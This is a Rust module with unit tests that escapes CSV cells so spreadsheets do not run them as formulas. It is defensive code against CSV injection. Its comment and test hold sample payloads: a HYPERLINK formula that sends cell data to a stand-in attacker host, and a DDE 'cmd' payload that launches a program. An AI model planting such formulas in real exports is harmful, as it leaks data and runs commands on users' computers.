//! Cells of the CSV files Regulars writes, safe to open in a spreadsheet. A cell that begins
//! with `=`, `+`, `-` or `@` (or a tab or carriage return) is read by Excel, LibreOffice and
//! Google Sheets as a formula, so a customer who joined as `=HYPERLINK("http://evil.example/?"&A1,
//! "Click")` would run it on the owner's computer (OWASP, "CSV Injection"). Such a cell is
//! written with a `'` in front, which spreadsheets show as text and do not print; a plain number
//! (`-3.50`, `+37120001234`) is left as it is, being no formula.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as written to a CSV file: with a `'` in front when a spreadsheet would run it.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if TRIGGERS.contains(&c) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// A cell read back from a CSV file Regulars wrote: the `'` it put in front taken away.
pub fn read_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) && !is_plain_number(rest) => rest,
        _ => cell,
    }
}

/// A sign, digits, at most one decimal point or comma, and nothing else.
fn is_plain_number(cell: &str) -> bool {
    let body = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut separators = 0;
    !body.is_empty()
        && body.chars().any(|c| c.is_ascii_digit())
        && body.chars().all(|c| {
            if c == '.' || c == ',' {
                separators += 1;
                separators <= 1
            } else {
                c.is_ascii_digit()
            }
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_left_alone() {
        let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
        assert_eq!(safe_cell(evil), format!("'{evil}"));
        for f in ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"] {
            assert!(safe_cell(f).starts_with('\''), "{f:?}");
            assert_eq!(read_cell(&safe_cell(f)), f);
        }
        for n in ["-3.50", "+37120001234", "12", "-0,5", "Ann", "", "'quoted"] {
            assert_eq!(safe_cell(n), n);
            assert_eq!(read_cell(n), n);
        }
        assert_eq!(read_cell(&safe_cell(evil)), evil);
    }
}
